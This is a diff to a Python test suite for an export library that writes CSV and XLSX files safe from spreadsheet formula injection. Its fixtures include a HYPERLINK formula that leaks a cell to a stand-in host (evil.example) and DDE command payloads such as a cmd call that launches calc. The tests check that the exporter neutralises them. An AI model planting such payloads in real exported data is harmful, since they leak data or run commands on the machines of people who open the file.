@@ -1,14 +1,18 @@
 """lib.export: tier lists to CSV and XLSX that no spreadsheet will run as formulas."""
 
+import csv
+import io
 import math
 
 import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from lib.charts import tier_color
-from lib.export import formula_safe, formula_safe_frame, to_csv_bytes, write_table
+from lib.export import formula_safe, formula_safe_frame, id_safe, to_csv_bytes, write_table
 
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -62,7 +66,7 @@ def test_csv_reads_back_with_the_same_rows(frame, tmp_path):
 
 def test_csv_is_plain_utf8_without_a_byte_order_mark(frame):
     data = to_csv_bytes(frame)
-    assert data.startswith(b"customer_id,")
+    assert data.startswith(b'"customer_id",')
     assert "Zoë".encode() in data
 
 
@@ -108,10 +112,100 @@ def test_money_columns_are_written_to_the_cent_in_csv_and_xlsx(tmp_path):
         }
     )
     text = to_csv_bytes(frame).decode()
-    assert text.splitlines()[1:] == ["A,50470.48,1234.56,0.123456789", "B,0.3,-0.3,0.5"]
+    assert text.splitlines()[1:] == [
+        '"A",50470.48,1234.56,0.123456789',
+        '"B",0.3,-0.3,0.5',
+    ]
     sheet = openpyxl.load_workbook(write_table(frame, tmp_path / "t.xlsx")).active
     assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
         ["A", 50470.48, 1234.56, 0.123456789],
         ["B", 0.3, -0.3, 0.5],
     ]
     assert frame["annual_revenue"][0] == 50470.479999999996  # the caller's frame is untouched
+
+
+# A carriage return alone ends a row in Excel and in line-based tools: the text after it must
+# not start a row with a live formula (issue 13, finding 4).
+CR_ATTACK = "Acme\r=cmd|' /C calc'!A0"
+
+
+def _rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def _line_starts(data: bytes) -> list[str]:
+    """The first cell of every line when the file is split on every line break (CR, LF, CRLF)
+    before anything else: what a reader that does not honour quotes takes for new rows."""
+    return [(next(csv.reader([line]), None) or [""])[0] for line in data.decode().splitlines()]
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def _no_live_formula(data: bytes) -> bool:
+    return all(
+        _is_number(cell) or not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t"))
+        for cell in _line_starts(data)
+    )
+
+
+def test_a_bare_carriage_return_cannot_start_a_row_with_a_formula(frame):
+    frame.loc[1, "customer_name"] = CR_ATTACK
+    data = to_csv_bytes(frame)
+    rows = _rows(data)
+    assert len(rows) == len(frame) + 1  # the CR stays inside its quoted cell
+    assert rows[2][1] == "Acme\r'=cmd|' /C calc'!A0"
+    assert _no_live_formula(data)
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("a\n=1+1", "a\n'=1+1"),
+        ("a\r\n@SUM(A1)", "a\r\n'@SUM(A1)"),
+        ("=x\r-y", "'=x\r'-y"),
+        ("line\n\nline", "line\n\nline"),
+        ("a\n b=c", "a\n b=c"),
+    ],
+)
+def test_every_line_of_a_text_cell_is_neutralised(text, safe):
+    assert formula_safe(text) == safe
+
+
+@given(st.text(alphabet=st.sampled_from('=+-@\t\r\n,"; aZ(|!1'), max_size=30))
+def test_any_text_reads_back_as_one_cell_and_never_starts_a_line_with_a_formula(text):
+    frame = pd.DataFrame({"customer_id": ["A", "B"], "customer_name": [text, "x"], "v": [1.0, -2]})
+    data = to_csv_bytes(frame)
+    rows = _rows(data)
+    assert len(rows) == 3
+    assert rows[1] == ["A", formula_safe(text), "1.0"]
+    assert _no_live_formula(data)
+
+
+@pytest.mark.parametrize("customer_id", ["-1042", "+44-7946", "-ACME-7", "+1.5", "-A/7 #2"])
+def test_plain_ids_starting_with_a_sign_are_exported_exactly_as_they_are(frame, customer_id):
+    # A CRM matches re-imported rows by id, character for character: no prefix.
+    frame.loc[0, "customer_id"] = customer_id
+    rows = _rows(to_csv_bytes(frame))
+    assert rows[1][0] == customer_id
+    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), dtype={"customer_id": str})
+    assert back.loc[0, "customer_id"] == customer_id
+
+
+@pytest.mark.parametrize(
+    "customer_id", ["=1+1", "@SUM(A1)", "-cmd|' /C calc'!A0", '+HYPERLINK("x")', "-2+A1&B1"]
+)
+def test_ids_that_could_call_something_are_neutralised(frame, customer_id):
+    frame.loc[0, "customer_id"] = customer_id
+    assert id_safe(customer_id) == "'" + customer_id
+    assert _rows(to_csv_bytes(frame))[1][0] == "'" + customer_id
+
+
+def test_text_cells_are_quoted_and_numbers_are_not(frame):
+    lines = to_csv_bytes(frame).decode().splitlines()
+    assert lines[1] == '"CUST-1","Zoë, ""Ltd""",1234567.89,"Tier 1"'
